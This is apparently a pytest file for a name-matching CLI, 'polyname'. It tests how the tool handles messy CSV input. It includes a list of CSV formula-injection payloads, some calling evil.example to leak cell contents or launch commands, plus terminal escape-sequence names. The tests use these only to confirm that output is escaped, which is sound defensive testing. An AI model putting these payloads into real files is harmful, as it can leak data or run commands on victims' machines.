"""CSV files as people have them: other delimiters, no header, spreadsheets' trailing empty
columns, short rows, blank names, unclosed quotes, columns that clash, formula payloads and
control characters. Every test runs the command as a separate process over real files."""

from __future__ import annotations

import csv
import io
import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import pytest

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"


def run(*args: str, stdin: bytes = b"", timeout: float = 120) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "polyname", *args], input=stdin, capture_output=True,
                          timeout=timeout)


def run_on_a_terminal(*args: str) -> bytes:
    """What the command prints on a pseudo-terminal (stdout and stderr, as a user sees them)."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "polyname", *args], stdin=slave, stdout=slave, stderr=slave)
    os.close(slave)
    out = b""
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 60)
            if not ready:
                break
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the process closed the terminal
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.close(master)
        assert proc.wait(timeout=60) == 0, out
    return out


def write(path: Path, text: str) -> str:
    path.write_bytes(text.encode("utf-8"))
    return str(path)


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def read(path: Path) -> list[list[str]]:
    return rows_of(path.read_bytes())


# -- delimiters ---------------------------------------------------------------------------


@pytest.mark.parametrize("sep, said", [(";", b"';'"), ("\t", b"tab")])
def test_semicolon_and_tab_are_sniffed_and_said(db: str, tmp_path: Path, sep: str, said: bytes) -> None:
    text = f"id{sep}name\n1{sep}Hossein Taeb\n2{sep}Ismail Qaani\n"
    f = write(tmp_path / "in.csv", text)
    for done in (run("match", f, "--db", db), run("match", "-", "--db", db, stdin=text.encode())):
        assert done.returncode == 0, done.stderr
        rows = rows_of(done.stdout)
        assert rows[0] == ["id", "name", "entity_id", "matched_name", "score"]  # written with commas
        assert [r[:3] for r in rows[1:]] == [["1", "Hossein Taeb", "P-TAEB"], ["2", "Ismail Qaani", "P-QAANI"]]
        assert said in done.stderr and b"-separated" in done.stderr
        assert done.stderr.count(b"\n") == 1  # one line says what was assumed


def test_delimiter_and_tabs_options(db: str, tmp_path: Path) -> None:
    f = write(tmp_path / "in.txt", "id|name\n1|Hossein Taeb\n")
    done = run("match", f, "--db", db, "-d", "|")
    assert done.returncode == 0 and done.stderr == b"", done.stderr
    assert rows_of(done.stdout)[1][:3] == ["1", "Hossein Taeb", "P-TAEB"]
    # A comma in a tab-separated file is just a character of a name.
    tsv = write(tmp_path / "in.tsv", "name\tnote\nTaeb, Hossein\tx\n")
    done = run("match", tsv, "--db", db, "-t")
    assert done.returncode == 0 and done.stderr == b"", done.stderr
    assert rows_of(done.stdout)[1][:3] == ["Taeb, Hossein", "x", "P-TAEB"]
    # A semicolon file given -d ',' explicitly is read as one column: nothing is assumed.
    semi = write(tmp_path / "semi.csv", "id;name\n1;Taeb\n")
    done = run("match", semi, "--db", db, "-d", ",", "--column", "name")
    assert done.returncode == 1 and b"no column 'name'" in done.stderr and b"'id;name'" in done.stderr
    assert run("match", f, "--db", db, "-d", "||").returncode == 2
    assert run("match", f, "--db", db, "-d", "|", "-t").returncode == 2


# -- no header ----------------------------------------------------------------------------


def test_headerless_names_through_stdin_of_a_real_process(db: str) -> None:
    done = run("match", "-", "--no-header", "--db", db, stdin=b"Hossein Taeb\n")
    assert done.returncode == 0, done.stderr
    assert rows_of(done.stdout) == [["a", "entity_id", "matched_name", "score"],
                                    ["Hossein Taeb", "P-TAEB", "Hossein Taeb", "1.0000"]]
    # As a user types it: a shell pipe.
    shell = subprocess.run(["bash", "-o", "pipefail", "-c",
                            f'echo "Hossein Taeb" | "{sys.executable}" -m polyname match - --no-header --db "{db}"'],
                           capture_output=True, timeout=120)
    assert shell.returncode == 0 and shell.stdout == done.stdout, shell.stderr


def test_headerless_columns_by_number_or_letter(db: str, tmp_path: Path) -> None:
    f = write(tmp_path / "in.csv", "7,Hossein Taeb,IR\n8,Ismail Qaani,IR\n")
    for column in ("2", "b"):
        done = run("match", f, "--no-header", "--column", column, "--db", db)
        assert done.returncode == 0, done.stderr
        rows = rows_of(done.stdout)
        assert rows[0] == ["a", "b", "c", "entity_id", "matched_name", "score"]
        assert [r[3] for r in rows[1:]] == ["P-TAEB", "P-QAANI"]  # the first row is data, not a header
    done = run("match", f, "--no-header", "--db", db)
    assert done.returncode == 2 and b"3 columns" in done.stderr and b"--column" in done.stderr
    done = run("match", f, "--no-header", "--column", "4", "--db", db)
    assert done.returncode == 1 and b"no column '4'" in done.stderr and b"'a', 'b', 'c'" in done.stderr
    # With a header, a number is a position too; without --no-header the hint says so.
    g = write(tmp_path / "h.csv", "id,who\n1,Hossein Taeb\n")
    done = run("match", g, "--column", "2", "--db", db)
    assert done.returncode == 0 and rows_of(done.stdout)[1][2] == "P-TAEB"
    done = run("match", g, "--db", db)
    assert done.returncode == 1 and b"--no-header" in done.stderr


# -- unclosed quotes ----------------------------------------------------------------------


def test_an_unclosed_quote_in_a_small_file_names_its_line(db: str, tmp_path: Path) -> None:
    f = write(tmp_path / "in.csv", 'entity_id,name\nE1,"Ali Hassan\nE2,Bob\nE3,Carl\n')
    out = tmp_path / "out.csv"
    done = run("match", f, "--column", "name", "--prefix", "x_", "--db", db, "-o", str(out))
    assert done.returncode == 1 and b"line 2" in done.stderr and b"never closed" in done.stderr, done.stderr
    assert not out.exists()
    done = run("registry", "import", f, "--db", db)  # used to say "1 rows" and exit 0
    assert done.returncode == 1 and b"line 2" in done.stderr and b"never closed" in done.stderr
    # A closed quote spanning lines is fine, and the line named is the quote's own.
    g = write(tmp_path / "ok.csv", 'name,note\nTaeb,"two\nlines"\nQaani,"open\n')
    done = run("dedup", g)
    assert done.returncode == 1 and b"row 3" in done.stderr and b"line 4" in done.stderr, done.stderr


@pytest.mark.parametrize("where", ["start", "end"])
def test_an_unclosed_quote_in_a_200k_row_file(tmp_path: Path, where: str) -> None:
    rows = [f"E{k},Name number {k}\n" for k in range(200_000)]
    opened = 2 if where == "start" else 199_998  # the file's line
    rows[opened - 2] = f'E{opened},"Name number {opened}\n'
    f = tmp_path / "big.csv"
    f.write_text("entity_id,name\n" + "".join(rows), encoding="utf-8")
    out = tmp_path / "out.csv"
    done = run("dedup", str(f), "-o", str(out))
    assert done.returncode == 1, done.stderr
    assert f"line {opened}".encode() in done.stderr, done.stderr
    assert not out.exists()


# -- spreadsheets' trailing columns, short and long rows ----------------------------------


def test_trailing_empty_header_columns_are_dropped(db: str, tmp_path: Path) -> None:
    f = write(tmp_path / "in.csv", "name,country,,,\nHossein Taeb,IR,,,\nIsmail Qaani,IR,,\n")
    done = run("match", f, "--db", db)
    assert done.returncode == 0, done.stderr
    rows = rows_of(done.stdout)
    assert rows[0] == ["name", "country", "entity_id", "matched_name", "score"]
    assert [r[2] for r in rows[1:]] == ["P-TAEB", "P-QAANI"]
    # A value under a column without a name is not dropped silently.
    g = write(tmp_path / "bad.csv", "name,country,,\nTaeb,IR,,\nQaani,IR,x,\n")
    done = run("match", g, "--db", db)
    assert done.returncode == 1 and b"row 3" in done.stderr and b"without a name" in done.stderr
    # Empty columns in the middle are still duplicate names.
    h = write(tmp_path / "mid.csv", "name,,,country\nTaeb,,,IR\n")
    done = run("match", h, "--db", db)
    assert done.returncode == 1 and b"2 columns without a name" in done.stderr


def test_short_rows_are_padded_or_skipped_and_counted(db: str, tmp_path: Path) -> None:
    f = write(tmp_path / "in.csv", "name,country,note\nHossein Taeb,IR,a\nIsmail Qaani\nTaeb,IR\n"
                                   "Qaani,IR,b\n")
    done = run("match", f, "--db", db, "--mode", "mention")  # ("Taeb" alone is a mention)
    assert done.returncode == 0, done.stderr
    rows = rows_of(done.stdout)
    assert [r[:4] for r in rows[1:]] == [["Hossein Taeb", "IR", "a", "P-TAEB"], ["Ismail Qaani", "", "", "P-QAANI"],
                                         ["Taeb", "IR", "", "P-TAEB"], ["Qaani", "IR", "b", "P-QAANI"]]
    assert b"2 rows shorter than the header" in done.stderr and b"row 3" in done.stderr
    done = run("match", f, "--db", db, "--mode", "mention", "--skip-short-rows")
    assert done.returncode == 0, done.stderr
    assert [r[0] for r in rows_of(done.stdout)[1:]] == ["Hossein Taeb", "Qaani"]
    assert b"2 rows shorter than the header skipped" in done.stderr
    done = run("dedup", f, "--skip-short-rows")
    assert done.returncode == 0 and b"2 rows in" in done.stderr and b"skipped" in done.stderr
    long = write(tmp_path / "long.csv", "name,country\nTaeb,IR\nQaani,IR,IQ\n")
    done = run("match", long, "--db", db, "--skip-short-rows")
    assert done.returncode == 1 and b"row 3" in done.stderr and b"3 fields where the header has 2" in done.stderr


# -- blank names ---------------------------------------------------------------------------


def test_blank_names_are_skipped_by_match_and_dedup_and_counted(db: str, tmp_path: Path) -> None:
    f = write(tmp_path / "in.csv", "name,n\nHussein al-Tayeb,1\n,2\nHossein Taeb,3\n   ,4\nIsmail Qaani,5\n")
    done = run("match", f, "--db", db)
    assert done.returncode == 0, done.stderr
    rows = rows_of(done.stdout)
    assert [r[1] for r in rows[1:]] == ["1", "2", "3", "4", "5"]  # every row, in order
    assert rows[2][2:] == ["", "", ""] and rows[4][2:] == ["", "", ""]
    assert rows[1][2] == rows[3][2] == "P-TAEB"
    assert b"2 rows with a blank name skipped" in done.stderr
    out = tmp_path / "out.csv"
    done = run("dedup", f, "-o", str(out))
    assert done.returncode == 0, done.stderr  # one blank name used to reject the whole file
    assert b"2 rows with a blank name skipped" in done.stderr
    rows = read(out)
    assert rows[0] == ["name", "n", "cluster_id", "cluster_size", "canonical_name"]
    assert [r[1] for r in rows[1:]] == ["1", "2", "3", "4", "5"]
    assert rows[2][2:] == ["", "", ""] and rows[4][2:] == ["", "", ""]
    assert rows[1][2] and rows[1][2] == rows[3][2] and rows[1][3] == "2"
    done = run("match", f, "--db", db, "--format", "table")
    assert done.returncode == 0 and done.stdout.count(b"blank name") == 2


# -- added columns that clash -----------------------------------------------------------


def test_prefix_names_the_added_columns(db: str, tmp_path: Path) -> None:
    # A list matched once already, matched against another registry.
    f = write(tmp_path / "in.csv", "entity_id,name\nX-1,Hossein Taeb\n")
    done = run("match", f, "--db", db)
    assert done.returncode == 1 and b"'entity_id'" in done.stderr and b"--prefix" in done.stderr
    done = run("match", f, "--db", db, "--prefix", "ref_", "--top", "2", "--threshold", "0.3")
    assert done.returncode == 0, done.stderr
    rows = rows_of(done.stdout)
    assert rows[0] == ["entity_id", "name", "ref_entity_id", "ref_matched_name", "ref_score", "ref_rank"]
    assert rows[1][:3] == ["X-1", "Hossein Taeb", "P-TAEB"] and rows[1][5] == "1"
    g = write(tmp_path / "clustered.csv", "name,cluster_id\nTaeb,C1\n")
    assert run("dedup", g).returncode == 1
    done = run("dedup", g, "--prefix", "new_")
    assert done.returncode == 0, done.stderr
    assert rows_of(done.stdout)[0] == ["name", "cluster_id", "new_cluster_id", "new_cluster_size",
                                       "new_canonical_name"]


# -- formulas ------------------------------------------------------------------------------

_FORMULAS = [
    # OWASP's CSV-injection examples and their kin.
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+9+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMAGE("http://evil.example/x.png")',
    "=SUM(A1:A10)",
    "+A1",
    "-A1",
    "@A1",
    "+1+1",
]
_PREFIXES = ["", " ", "   ", "\u200b", "\ufeff", "\u00a0", "\u2060"]
FORMULA_PAYLOADS = (
    [p + f for f in _FORMULAS for p in _PREFIXES]
    + ["\t=1+2", "\r=1+2", "\t", "\tAli", "\u200b \ufeff=1+2"]
    + ["\uff1dcmd|' /C calc'!A0", "\uff0bA1", "\uff0dA1", "\uff20SUM(A1)", "\ufe661+1", " \uff1d1+1"]
    + ["-", "--", "+", "-x", "- 12 apples"]
)
NOT_FORMULAS = ["-12.50", "+98 21 555 1234", "+1 (555) 123-4567", "-1,234.56", "-0.5", "+44 20 7946 0958",
                "-5%", "-1e-5", "+49-30-901820", "12", "Ali Hassan", "a=b", "mail@example.com", "'=quoted",
                " 12", "\u200bAli", "O'Brien"]


def test_the_payload_list_is_a_hundred_strong() -> None:
    assert len(FORMULA_PAYLOADS) >= 100 and len(set(FORMULA_PAYLOADS)) == len(FORMULA_PAYLOADS)


def test_formula_payloads_in_match_output(db: str, tmp_path: Path) -> None:
    f = tmp_path / "in.csv"
    with f.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["name", "note"])
        for value in FORMULA_PAYLOADS + NOT_FORMULAS:
            writer.writerow(["Taeb", value])
    done = run("match", str(f), "--db", db)
    assert done.returncode == 0, done.stderr
    notes = [r[1] for r in rows_of(done.stdout)[1:]]
    n = len(FORMULA_PAYLOADS)
    assert [v for v, got in zip(FORMULA_PAYLOADS, notes[:n]) if got != "'" + v] == []
    assert notes[n:] == NOT_FORMULAS  # numbers, phones and text as they were
    done = run("match", str(f), "--db", db, "--no-escape-formulas")
    assert [r[1] for r in rows_of(done.stdout)[1:]] == FORMULA_PAYLOADS + NOT_FORMULAS


def test_registry_export_escapes_formula_names(tmp_path: Path) -> None:
    f = tmp_path / "aliases.csv"
    # (An import strips the spaces, tabs and carriage returns around a name.)
    values = [v for v in FORMULA_PAYLOADS + NOT_FORMULAS if v.strip() and v[0] not in "\t\r"]
    with f.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["entity_id", "name", "source"])
        for k, value in enumerate(values):
            writer.writerow([f"X-{k}", value, "=cmd|' /C calc'!A0"])
    db = str(tmp_path / "reg.db")
    done = run("registry", "import", str(f), "--db", db)
    assert done.returncode == 0, done.stderr
    raw = rows_of(run("registry", "export", "--db", db, "--no-escape-formulas").stdout)
    escaped = rows_of(run("registry", "export", "--db", db).stdout)
    assert raw[0] == escaped[0] == ["entity_id", "name", "kind", "lang", "source", "quality"]
    assert len(raw) == len(escaped) == len(values) + 1
    stored = {r[1] for r in raw[1:]}
    formulas = 0
    for plain, safe in zip(raw[1:], escaped[1:]):
        assert safe[4] == "'" + plain[4]  # the source cell too: every cell is escaped
        original = values[int(plain[0][2:])]
        if original in NOT_FORMULAS:
            assert safe[1] == plain[1], original
        else:
            formulas += 1
            assert safe[1] == "'" + plain[1] and plain[1] in stored, original
    assert formulas >= 90


# -- control characters printed for a person -------------------------------------------------

ESC_NAME = "Evil \x1b[2J\x1b]0;owned\x07 Name\u202e"


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    f = tmp_path / "aliases.csv"
    with f.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["entity_id", "name", "source"])
        writer.writerow(["X-1", ESC_NAME, "src\x1b[31m"])
        writer.writerow(["X-2", "Hossein Taeb", ""])
    db = str(tmp_path / "reg.db")
    assert run("registry", "import", str(f), "--db", db, "--author", "me\x1b[5m").returncode == 0
    assert run("registry", "judge", "X-1", "X-2", "--different", "--db", db, "--note", "bad\x9b2J").returncode == 0
    return db


def _hostile_commands(db: str, tmp_path: Path) -> list[list[str]]:
    names = write(tmp_path / "names.csv", f"name\n{ESC_NAME}\nHossein Taeb\n")
    return [["registry", "show", "X-1", "--db", db], ["registry", "history", "--db", db],
            ["compare", ESC_NAME, "Evil Name"], ["match", names, "--db", db, "--format", "table", "--threshold", "0.1"]]


def _assert_escaped(out: bytes, what: list[str]) -> None:
    text = out.decode("utf-8")
    for c in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert c not in text, (what, text)
    if what[0] != "compare":  # (compare prints the names' tokens, which hold no controls)
        assert "\\x1b" in text or "\\x9b" in text, (what, text)


def test_control_characters_are_escaped_on_a_terminal(hostile_db: str, tmp_path: Path) -> None:
    for args in _hostile_commands(hostile_db, tmp_path):
        _assert_escaped(run_on_a_terminal(*args), args)


def test_control_characters_are_escaped_in_redirected_text_too(hostile_db: str, tmp_path: Path) -> None:
    # Redirected text is read on a terminal later (less, cat, a CI log): the same rule.
    for args in _hostile_commands(hostile_db, tmp_path):
        done = run(*args)
        assert done.returncode == 0, done.stderr
        _assert_escaped(done.stdout + done.stderr, args)
    # CSV output is data: written as it is.
    names = write(tmp_path / "n.csv", f"name\n{ESC_NAME}\n")
    assert ESC_NAME.encode() in run("match", names, "--db", hostile_db).stdout


# -- the table ----------------------------------------------------------------------------


def test_table_shows_every_candidate_with_its_rank(db: str, tmp_path: Path) -> None:
    f = write(tmp_path / "in.csv", "name\nHassan Nasrallah\nTaeb\n")
    csv_rows = rows_of(run("match", f, "--db", db, "--top", "3", "--threshold", "0.3").stdout)[1:]
    done = run("match", f, "--db", db, "--top", "3", "--threshold", "0.3", "--format", "table")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.decode().splitlines()
    assert "rank" in lines[0]
    body = [line for line in lines[2:] if line.strip() and "names resolved" not in line]
    assert len(body) == len(csv_rows) > 2
    for line, row in zip(body, csv_rows):
        assert row[1] in line and f" {row[4]} " in f" {line} "  # the entity and its rank


# -- a very wide header -------------------------------------------------------------------


def test_a_header_of_100000_columns(db: str, tmp_path: Path) -> None:
    # Empty trailing columns (a spreadsheet's): dropped.
    f = write(tmp_path / "trailing.csv", "name" + "," * 100_000 + "\nHossein Taeb" + "," * 100_000 + "\n")
    done = run("match", f, "--db", db, timeout=300)
    assert done.returncode == 0 and rows_of(done.stdout)[1][1] == "P-TAEB", done.stderr
    # Empty columns before the names: duplicates, found in one pass.
    g = write(tmp_path / "empty.csv", "," * 100_000 + "name\n" + "," * 100_000 + "Taeb\n")
    done = run("match", g, "--db", db, timeout=300)
    assert done.returncode == 1 and b"100000 columns without a name" in done.stderr, done.stderr
    # 100,000 distinct names: read, matched and written.
    h = write(tmp_path / "wide.csv", ",".join(f"c{k}" for k in range(100_000)) + ",name\n"
              + "," * 100_000 + "Hossein Taeb\n")
    done = run("match", h, "--db", db, timeout=300)
    assert done.returncode == 0 and rows_of(done.stdout)[1][100_001] == "P-TAEB", done.stderr


def test_registry_import_reads_semicolons_and_tabs(tmp_path: Path) -> None:
    for name, text, args in (("semi.csv", "entity_id;name\nP-1;Hossein Taeb\n", ()),
                             ("tabs.tsv", "entity_id\tname\nP-1\tHossein Taeb\n", ("-t",)),
                             ("pipes.csv", "entity_id|name\nP-1|Hossein Taeb\n", ("-d", "|"))):
        src = tmp_path / name
        src.write_text(text, encoding="utf-8")
        db = tmp_path / f"{name}.db"
        done = subprocess.run([sys.executable, "-m", "polyname", "registry", "import", str(src), *args,
                               "--db", str(db)], capture_output=True, timeout=120)
        assert done.returncode == 0, done.stderr
        assert (b"read as ';'-separated" in done.stderr) == (name == "semi.csv")
        shown = subprocess.run([sys.executable, "-m", "polyname", "registry", "show", "P-1", "--db", str(db)],
                               capture_output=True, timeout=120)
        assert "Hossein Taeb" in shown.stdout.decode()
